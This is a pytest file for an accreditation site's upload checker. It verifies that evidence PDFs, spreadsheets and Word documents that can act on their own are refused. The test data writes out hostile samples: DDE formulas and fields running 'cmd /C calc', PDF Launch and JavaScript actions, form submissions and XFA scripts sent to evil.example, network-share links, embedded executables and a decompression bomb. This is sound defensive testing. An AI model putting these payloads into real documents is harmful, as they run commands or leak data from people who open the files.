"""Evidence files that could do something by themselves when opened are refused, whatever
disguise they wear: PDFs with scripts, XFA forms, actions that run on opening, links to
network shares, attached files; spreadsheets and documents with DDE formulas or fields,
external links or macros. Each is uploaded through the page as a provider would: the answer
names the file field and says what to do, and nothing is stored. Ordinary files still go
through."""

from __future__ import annotations

import io

import pikepdf
import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from accreditation import create_app
from accreditation.audit import AuditEvent
from accreditation.evidence import office_checks, pdf_checks
from accreditation.evidence.content import UploadRejected, inspect_upload
from accreditation.extensions import db

from ..conftest import PRODUCTION_DATA_KEY, Client, empty_all_tables
from ..factories import UserFactory
from . import samples
from .test_uploads import post_upload, rows, stored_files

pdf_objects, pdf_stream, compressed = samples.pdf_objects, samples.pdf_stream, samples.compressed

XFA_WITH_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">'
    b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1">'
    b'<event activity="initialize"><script contentType="application/x-javascript">'
    b"xfa.host.gotoURL('https://evil.example/opened')</script></event>"
    b"</subform></template></xdp:xdp>")
LINK = b"/Type /Annot /Subtype /Link /Rect [10 10 100 30] "


def xfa_form(*, flate: bool) -> bytes:
    return pdf_objects(pdf_stream(b"", XFA_WITH_SCRIPT, flate=flate),
                       catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >> ")


def link(action: bytes) -> bytes:
    """A PDF whose page has one link that does ``action`` when clicked."""
    return pdf_objects(b"<< " + LINK + b"/A " + action + b" >>", page=b"/Annots [4 0 R] ")


def on_opening(action: bytes) -> bytes:
    return pdf_objects(catalog=b"/OpenAction " + action + b" ")


SUBMIT_TO_A_WEBSITE = b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/c) >> >>"
NETWORK_SHARE = rb"<< /S /GoToR /F (\\\\fileserver\\share\\policy.pdf) /D [0 /Fit] >>"
FILE_URL = b"<< /S /GoToR /F << /FS /URL /F (file://fileserver/share/policy.pdf) >> /D [0 /Fit] >>"
PAGE_OPENS_A_WEBSITE = b"/AA << /O << /S /URI /URI (https://evil.example/seen) >> >> "

SCRIPT, ACTION, ATTACHED = (pdf_checks.SCRIPT_MESSAGE, pdf_checks.ACTION_MESSAGE,
                            pdf_checks.ATTACHMENT_MESSAGE)

PDFS = {
    "XFA form with a script": (xfa_form(flate=False), SCRIPT),
    "XFA form with a script, Flate-compressed": (xfa_form(flate=True), SCRIPT),
    "XFA form in compressed object streams": (compressed(xfa_form(flate=False)), SCRIPT),
    "XFA form as packets": (pdf_objects(
        pdf_stream(b"", XFA_WITH_SCRIPT, flate=True),
        catalog=b"/AcroForm << /Fields [] /XFA [(template) 4 0 R] >> "), SCRIPT),
    "form sent to a website on opening": (on_opening(SUBMIT_TO_A_WEBSITE), ACTION),
    "form sent to a website on opening, compressed": (
        compressed(on_opening(SUBMIT_TO_A_WEBSITE)), ACTION),
    "form sent on opening, names written with #xx": (on_opening(
        b"<< /#53 /Sub#6dit#46orm /F << /FS /URL /F (http://evil.example/c) >> >>"), ACTION),
    "form sent when a link is clicked": (link(SUBMIT_TO_A_WEBSITE), ACTION),
    "link to a network share": (link(NETWORK_SHARE), ACTION),
    "link to a network share, compressed": (compressed(link(NETWORK_SHARE)), ACTION),
    "link to a file:// address": (link(FILE_URL), ACTION),
    "network share opened on opening": (on_opening(NETWORK_SHARE), ACTION),
    "website opened when the page opens": (pdf_objects(page=PAGE_OPENS_A_WEBSITE), ACTION),
    "website opened when the page opens, compressed": (
        compressed(pdf_objects(page=PAGE_OPENS_A_WEBSITE)), ACTION),
    "website opened when the pointer passes over a link": (pdf_objects(
        b"<< " + LINK + b"/AA << /E << /S /URI /URI (https://evil.example/hover) >> >> >>",
        page=b"/Annots [4 0 R] "), ACTION),
    "website opened on opening": (on_opening(
        b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example/) >> >>"),
        ACTION),
    "link to a file: address": (link(b"<< /S /URI /URI (file:///C:/Windows/System32) >>"),
                                ACTION),
    "link to a network share written as an address": (
        link(rb"<< /S /URI /URI (\\\\fileserver\\share) >>"), ACTION),
    "data imported on opening": (on_opening(rb"<< /S /ImportData /F (\\\\host\\s\\x.fdf) >>"),
                                 ACTION),
    "program launched on opening, compressed": (
        compressed(on_opening(b"<< /S /Launch /F (cmd.exe) >>")), ACTION),
    "program launched from a link": (link(b"<< /S /Launch /F (calc.exe) >>"), ACTION),
    "document embedded in the file opened on opening": (
        on_opening(b"<< /S /GoToE /T << /R /C /N (a) >> >>"), ACTION),
    "JavaScript on opening": (on_opening(b"<< /S /JavaScript /JS (app.alert(1)) >>"), SCRIPT),
    "JavaScript on opening, compressed": (
        compressed(on_opening(b"<< /S /JavaScript /JS (app.alert(1)) >>")), SCRIPT),
    "document-level JavaScript, compressed": (compressed(pdf_objects(
        catalog=b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert(1)) "
                b">>] >> >> ")), SCRIPT),
    "script in a stream of its own": (pdf_objects(
        pdf_stream(b"", b"app.alert(1)", flate=True),
        catalog=b"/OpenAction << /S /J#61vaScript /J#53 4 0 R >> "), SCRIPT),
    "rich media, compressed": (compressed(pdf_objects(
        b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>",
        page=b"/Annots [4 0 R] ")), ATTACHED),
    "attached file, compressed": (compressed(pdf_objects(
        b"<< /Type /Filespec /F (run.exe) /EF << /F 5 0 R >> >>",
        pdf_stream(b"/Type /EmbeddedFile", b"MZ"),
        catalog=b"/Names << /EmbeddedFiles << /Names [(run.exe) 4 0 R] >> >> ")), ATTACHED),
    "file attachment annotation": (pdf_objects(
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 5 0 R >>",
        b"<< /Type /Filespec /F (notes.txt) /EF << /F 6 0 R >> >>",
        pdf_stream(b"/Type /EmbeddedF#69le", b"hello"),
        page=b"/Annots [4 0 R] "), ATTACHED),
}


SUBMIT_ON_OPENING = b"/OpenAction 4 0 R "
PDFS.update({
    "form sent on opening, in an object stream compressed twice over": (
        samples.pdf_with_compressed_objects(SUBMIT_TO_A_WEBSITE, catalog=SUBMIT_ON_OPENING,
                                            flate_layers=2), ACTION),
    "website opened on opening, in an object stream": (samples.pdf_with_compressed_objects(
        b"<< /S /URI /URI (https://evil.example/) >>", catalog=SUBMIT_ON_OPENING), ACTION),
    "XFA form, in an object stream compressed twice over": (
        samples.pdf_with_compressed_objects(
            b"<< /Fields [] /XFA [(template) (" + XFA_WITH_SCRIPT.replace(b"(", b"\\(")
            .replace(b")", b"\\)") + b")] >>", catalog=b"/AcroForm 4 0 R ", flate_layers=2),
        SCRIPT),
})


def check(data: bytes):
    return inspect_upload(io.BytesIO(data), filename="evidence.pdf")


@pytest.mark.parametrize("name", list(PDFS))
def test_a_pdf_that_can_act_by_itself_is_refused(name):
    data, message = PDFS[name]
    with pytest.raises(UploadRejected) as refused:
        check(data)
    assert refused.value.message == message


def test_an_object_stream_that_inflates_past_the_limit_is_refused_quickly():
    """Two layers of Flate: a few hundred bytes that would become 200 MB."""
    bomb = samples.pdf_with_compressed_objects(b"[3 0 R /Fit]", catalog=b"/OpenAction 4 0 R ",
                                               flate_layers=2, padding=200 * 1024 * 1024)
    assert len(bomb) < 2000
    with pytest.raises(UploadRejected) as refused:
        check(bomb)
    assert refused.value.message == pdf_checks.UNREADABLE_MESSAGE


ORDINARY_PDFS = {
    "link to a website": link(b"<< /S /URI /URI (https://www.gov.uk/) >>"),
    "link to an e-mail address": link(b"<< /S /URI /URI (mailto:office@example.org) >>"),
    "link to a page": link(b"<< /S /GoTo /D [3 0 R /Fit] >>"),
    "opens at a page": on_opening(b"[3 0 R /FitH 200]"),
    "opens at a page, by an action": on_opening(b"<< /S /GoTo /D [3 0 R /Fit] >>"),
    "bookmarks": pdf_objects(
        b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
        b"<< /Title (Policy) /Parent 4 0 R /Dest [3 0 R /Fit] >>",
        catalog=b"/Outlines 4 0 R "),
    "opens at a page, in an object stream compressed twice over": (
        samples.pdf_with_compressed_objects(b"[3 0 R /Fit]", catalog=b"/OpenAction 4 0 R ",
                                            flate_layers=2)),
    "fillable form without scripts": pdf_objects(
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Sam) /Rect [0 0 90 20] >>",
        catalog=b"/AcroForm << /Fields [4 0 R] >> ", page=b"/Annots [4 0 R] "),
}


@pytest.mark.parametrize("name", list(ORDINARY_PDFS))
@pytest.mark.parametrize("saved", ["as written", "compressed"])
def test_ordinary_pdfs_are_accepted(name, saved):
    data = ORDINARY_PDFS[name]
    with check(data if saved == "as written" else compressed(data)) as checked:
        assert checked.kind == "pdf"


TEXT = st.text(st.characters(codec="latin-1", exclude_categories=("Cc", "Cs")), max_size=40)
WEB_ADDRESS = st.builds("https://{}.example/{}".format,
                        st.from_regex(r"[a-z]{1,12}", fullmatch=True),
                        st.from_regex(r"[a-z0-9/]{0,20}", fullmatch=True))


@st.composite
def ordinary_pdfs(draw) -> bytes:
    """What office programs and 'Save as PDF' make: pages of text, links to websites and to
    pages, bookmarks, document information, saved plainly or with compressed objects."""
    document = pikepdf.new()
    pages = draw(st.integers(1, 4))
    for _ in range(pages):
        page = document.add_blank_page(page_size=(200, 200))
        font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1,
                                  BaseFont=pikepdf.Name.Helvetica)
        page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        text = draw(TEXT).encode("latin-1").replace(b"\\", b"\\\\").replace(b"(", b"\\(")
        text = text.replace(b")", b"\\)")
        page.Contents = document.make_stream(b"BT /F1 12 Tf 20 100 Td (%s) Tj ET" % text)
        annotations = []
        for address in draw(st.lists(WEB_ADDRESS, max_size=3)):
            annotations.append(document.make_indirect(pikepdf.Dictionary(
                Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                Rect=[10, 10, 100, 30], Border=[0, 0, 0],
                A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=address))))
        if draw(st.booleans()):
            annotations.append(pikepdf.Dictionary(
                Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 5, 5],
                Dest=[document.pages[0].obj, pikepdf.Name.Fit]))
        if annotations:
            page.Annots = pikepdf.Array(annotations)
    if draw(st.booleans()):
        with document.open_outline() as outline:
            for number in range(pages):
                outline.root.append(pikepdf.OutlineItem(draw(TEXT) or "Page", number))
    if draw(st.booleans()):
        document.Root.OpenAction = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])
    with document.open_metadata(set_pikepdf_as_editor=False) as metadata:
        metadata["dc:title"] = draw(TEXT)
    out = io.BytesIO()
    document.save(out, object_stream_mode=draw(st.sampled_from(pikepdf.ObjectStreamMode)),
                  compress_streams=draw(st.booleans()), static_id=True)
    return out.getvalue()


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(ordinary_pdfs())
def test_ordinary_generated_pdfs_are_accepted(data):
    with check(data) as checked:
        assert checked.kind == "pdf" and checked.size == len(data)


# A zero-page file with no cross-reference table: no parser makes a document of it.
UNPARSABLE = (b"%%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R%s>>endobj\n"
              b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%%%EOF\n")


def test_a_file_no_parser_can_read_is_judged_by_its_bytes():
    with check(UNPARSABLE % b"") as checked:  # as the project's older test files are
        assert checked.kind == "pdf"


@pytest.mark.parametrize("name", sorted(pdf_checks.READER_NAMES))
@pytest.mark.parametrize("written", ["plainly", "with #xx"])
def test_a_file_no_parser_can_read_is_refused_for_any_name_a_parser_must_judge(name, written):
    if written != "plainly":
        name = b"".join(b"#%02X" % byte if index % 2 else bytes([byte])
                        for index, byte in enumerate(name))
    with pytest.raises(UploadRejected) as refused:
        check(UNPARSABLE % (b"/" + name + b" 3 0 R"))
    assert refused.value.message == pdf_checks.UNREADABLE_MESSAGE


@settings(max_examples=60, deadline=None)
@given(st.sampled_from([*ORDINARY_PDFS.values(), *(data for data, _ in PDFS.values())]),
       st.lists(st.tuples(st.integers(0, 10_000), st.binary(min_size=1, max_size=8)),
                max_size=6),
       st.integers(0, 10_000))
def test_damaged_pdfs_are_accepted_or_refused_never_an_error(data, changes, cut):
    """Bytes overwritten here and there, and the end cut off: refused or accepted, with one
    of the messages, never an exception the page would turn into a server error."""
    damaged = bytearray(data)
    for at, written in changes:
        at %= len(damaged)
        damaged[at:at + len(written)] = written
    damaged = bytes(damaged[:max(5, len(damaged) - cut % len(damaged))])
    try:
        check(damaged).close()
    except UploadRejected as refused:
        assert refused.message.endswith(("upload that", "without a password",
                                               "or XLSX"))


# --- spreadsheets and documents -----------------------------------------------------------------

LINKS, MACROS = office_checks.LINKS_MESSAGE, office_checks.ACTIVE_CONTENT_MESSAGE
xlsx, docx = samples.xlsx, samples.docx
MACRO_SHEET = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def formula(text: str) -> str:
    return f'<c r="B1"><f>{text}</f><v>0</v></c>'


def field(instruction: str) -> str:
    """A Word field as Word writes it: begin, instruction, separate, result, end."""
    return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


EXTERNAL_LINK = (
    f'<externalLink xmlns="{samples.EXCEL_NAMESPACE}"><ddeLink ddeService="cmd" '
    'ddeTopic="/C calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>'
    "</externalLink>")
CMD = "cmd|' /C calc'!A0"

OFFICE = {
    "xlsx: DDE formula": (xlsx(formula(CMD)), LINKS),
    "xlsx: DDE formula, quoted application": (xlsx(formula("'cmd'|'/C calc'!A0")), LINKS),
    "xlsx: DDE formula with = and spaces": (xlsx(formula("=MSEXCEL |'\\..\\cmd.exe'!''")),
                                            LINKS),
    "xlsx: DDE formula, pipe written as a character reference": (
        xlsx(formula("cmd&#124;' /C calc'!A0")), LINKS),
    "xlsx: DDE formula in a CDATA section": (xlsx(formula(f"<![CDATA[{CMD}]]>")), LINKS),
    "xlsx: DDE formula shared across cells": (xlsx(
        f'<c r="B1"><f t="shared" ref="B1:B2" si="0">{CMD}</f></c>'), LINKS),
    "xlsx: DDE function": (xlsx(formula('DDE("cmd","/C calc","A0")')), LINKS),
    "xlsx: DDEAUTO function": (xlsx(formula('ddeauto ("cmd","/C calc")')), LINKS),
    "xlsx: DDE in a defined name": (xlsx(workbook=(
        f'<definedNames><definedName name="run">{CMD}</definedName></definedNames>')), LINKS),
    "xlsx: DDE in conditional formatting": (xlsx(sheet=(
        '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
        f"<formula>{CMD}</formula></cfRule></conditionalFormatting>")), LINKS),
    "xlsx: DDE link to another program": (xlsx(
        **{"xl/externalLinks/externalLink1.xml": EXTERNAL_LINK}), LINKS),
    "xlsx: link to another workbook": (xlsx(**{
        "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{samples.EXCEL_NAMESPACE}">'
                                              "<externalBook/></externalLink>"}), LINKS),
    "xlsx: data connection": (xlsx(**{"xl/connections.xml": (
        f'<connections xmlns="{samples.EXCEL_NAMESPACE}"><connection id="1" name="q" '
        'refreshOnLoad="1" type="4"><webPr url="https://evil.example/q"/></connection>'
        "</connections>")}), LINKS),
    "xlsx: macros": (xlsx(**{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA"}), MACROS),
    "xlsx: macro-enabled content type": (samples.ooxml(
        samples.xlsx_parts(main_type=MACRO_SHEET)), MACROS),
    "xlsx: Excel 4.0 macro sheet": (xlsx(**{"xl/macrosheets/sheet2.xml": (
        f'<worksheet xmlns="{samples.EXCEL_NAMESPACE}"><sheetData/></worksheet>')}), MACROS),
    "docx: DDEAUTO field": (docx(field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')),
                            LINKS),
    "docx: DDE field": (docx(field(' dde "cmd" "/c calc" ')), LINKS),
    "docx: DDE field split across runs": (docx(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd "/c calc"'
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'), LINKS),
    "docx: DDE field inside another field": (docx(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText>IF 1 = 1 "</w:instrText></w:r>' + field("DDEAUTO cmd x")
        + '<w:r><w:instrText>"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'), LINKS),
    "docx: simple DDEAUTO field": (docx(
        '<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot;"><w:r><w:t>1</w:t>'
        "</w:r></w:fldSimple></w:p>"), LINKS),
    "docx: DDE field in a header": (docx(**{
        "word/header1.xml": samples.word_part(field("DDEAUTO cmd x"), root="hdr")}), LINKS),
    "docx: outside template": (samples.template_injection_docx(), MACROS),
}


@pytest.mark.parametrize("name", list(OFFICE))
def test_a_spreadsheet_or_document_that_can_act_by_itself_is_refused(name):
    data, message = OFFICE[name]
    with pytest.raises(UploadRejected) as refused:
        inspect_upload(io.BytesIO(data), filename="evidence.xlsx")
    assert refused.value.message == message


ORDINARY_OFFICE = {
    "xlsx: sums": xlsx(formula("SUM(A1:A3)")
                       + formula("IF(A1&gt;2,&quot;yes&quot;,&quot;no&quot;)")),
    "xlsx: a pipe inside text": xlsx(formula('CONCAT("on call | days",A1)')),
    "xlsx: a sheet with a pipe in its name": xlsx(formula("'Rota | May'!A1*2")),
    "xlsx: DDE written as text, not a formula": xlsx(
        f'<c r="A1" t="inlineStr"><is><t>{CMD}</t></is></c>'),
    "xlsx: a name and a function that only begin with DDE": xlsx(formula("DDELIVERED+DDE_2(1)")),
    "xlsx: defined names and conditional formatting": xlsx(
        workbook='<definedNames><definedName name="total">Staff!$A$1:$A$9</definedName>'
                 "</definedNames>",
        sheet='<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
              "<formula>A1&gt;0</formula></cfRule></conditionalFormatting>"),
    "docx: page numbers, contents and a web link": docx(
        field("PAGE") + field('TOC \\o "1-3"') + field('HYPERLINK "https://www.gov.uk/"')),
    "docx: the word DDE in the text": docx("<w:p><w:r><w:t>DDE DDEAUTO cmd|x</w:t></w:r></w:p>"),
}


@pytest.mark.parametrize("name", list(ORDINARY_OFFICE))
def test_ordinary_spreadsheets_and_documents_are_accepted(name):
    with inspect_upload(io.BytesIO(ORDINARY_OFFICE[name]), filename="rota.xlsx") as checked:
        assert checked.kind == name[:4]


TEXT_IN_FORMULA = st.text(st.characters(codec="ascii", exclude_categories=("Cc",),
                                        exclude_characters='"&<>'), max_size=20)
ORDINARY_TERMS = st.one_of(
    st.sampled_from(["A1", "B$2", "Staff!C3", "'Rota May'!A1", "SUM(A1:A9)", "1.5", "TRUE",
                     "DAYS(A1,B1)", "_xlfn.XLOOKUP(A1,B:B,C:C)", "TODAY()"]),
    TEXT_IN_FORMULA.map(lambda text: f"&quot;{text}&quot;"))


@settings(max_examples=50, deadline=None)
@given(st.lists(ORDINARY_TERMS, min_size=1, max_size=6),
       st.lists(st.sampled_from(["+", "-", "*", "/", "&amp;", ","]), min_size=6, max_size=6),
       st.booleans())
def test_formulas_are_accepted_unless_they_reach_another_program(terms, operators, dde):
    """Any formula of ordinary terms, text (pipes included) and operators is accepted; the
    same formula with a DDE reference among its terms is refused."""
    text = terms[0] + "".join(operator + term for operator, term
                              in zip(operators, terms[1:], strict=False))
    if dde:
        text += "+" + CMD
    try:
        inspect_upload(io.BytesIO(xlsx(formula(text))), filename="rota.xlsx").close()
    except UploadRejected as refused:
        assert dde and refused.message == LINKS
    else:
        assert not dde


@settings(max_examples=60, deadline=None)
@given(st.sampled_from([*ORDINARY_OFFICE.values(), *(data for data, _ in OFFICE.values())]),
       st.lists(st.tuples(st.integers(0, 10_000), st.binary(min_size=1, max_size=8)),
                min_size=1, max_size=6))
def test_damaged_office_files_are_accepted_or_refused_never_an_error(data, changes):
    damaged = bytearray(data)
    for at, written in changes:
        at %= len(damaged)
        damaged[at:at + len(written)] = written
    try:
        inspect_upload(io.BytesIO(bytes(damaged)), filename="rota.xlsx").close()
    except UploadRejected as refused:
        assert refused.message.endswith(("upload that", "or XLSX"))


# --- through the page, as a provider uploads ----------------------------------------------------

DOCUMENTS = {
    **{f"PDF: {name}": (data, message, "evidence.pdf") for name, (data, message) in PDFS.items()},
    **{name: (data, message, f"evidence.{name[:4]}") for name, (data, message) in OFFICE.items()},
}


@pytest.fixture
def provider(app):
    return UserFactory(provider=True)


@pytest.mark.parametrize("name", list(DOCUMENTS))
def test_the_page_refuses_it_on_the_file_field_and_stores_nothing(client, provider, app_storage,
                                                                  name):
    data, message, filename = DOCUMENTS[name]
    client.sign_in(provider)
    response = post_upload(client, data, filename)
    assert response.status_code == 400
    page = response.text.replace("&#39;", "'")
    assert f'<a href="#file">{message}</a>' in page  # the error summary, linked to the field
    assert '<p id="file-error" class="govuk-error-message">' in page
    assert message.startswith("The selected file ")
    assert rows() == [] and stored_files(app_storage) == []
    [refused] = db.session.scalars(sa.select(AuditEvent).where(
        AuditEvent.action == "evidence.upload_refused")).all()
    assert refused.details["reason"] == message


def test_under_production_settings_each_kind_is_refused_and_ordinary_files_go_through(
        database_url, tmp_path, monkeypatch):
    """The app as it is deployed (its settings from the environment, production's own
    limits), a provider uploading every kind of file above through the page."""
    for name, value in {
            "ENV": "production", "SECRET_KEY": "p" * 64, "DATA_KEYS": PRODUCTION_DATA_KEY,
            "BASE_URL": "https://localhost", "DATABASE_URL": database_url, "STORAGE": "local",
            "STORAGE_LOCAL_PATH": str(tmp_path / "evidence"),
            "REGISTER_CACHE_PATH": str(tmp_path / "pages")}.items():
        monkeypatch.setenv(f"ACCREDITATION_{name}", value)
    app = create_app()
    assert app.config["ENV_NAME"] == "production" and not app.testing
    app.test_client_class = Client
    try:
        with app.app_context():
            client = app.test_client()
            client.sign_in(UserFactory(provider=True))
            for name, (data, message, filename) in DOCUMENTS.items():
                response = post_upload(client, data, filename)
                assert response.status_code == 400, name
                assert message in response.text.replace("&#39;", "'"), name
            assert rows() == [] and stored_files(app.extensions["evidence_storage"]) == []
            assert len(db.session.scalars(sa.select(AuditEvent).where(
                AuditEvent.action == "evidence.upload_refused")).all()) == len(DOCUMENTS)
            ordinary = {"policy.pdf": ORDINARY_PDFS["link to a website"],
                        "rota.xlsx": ORDINARY_OFFICE["xlsx: sums"],
                        "plan.docx": ORDINARY_OFFICE["docx: page numbers, contents and a web link"]}
            for filename, data in ordinary.items():
                assert post_upload(client, data, filename).status_code == 303, filename
            assert sorted(row.display_filename for row in rows()) == sorted(ordinary)
    finally:
        empty_all_tables(app)
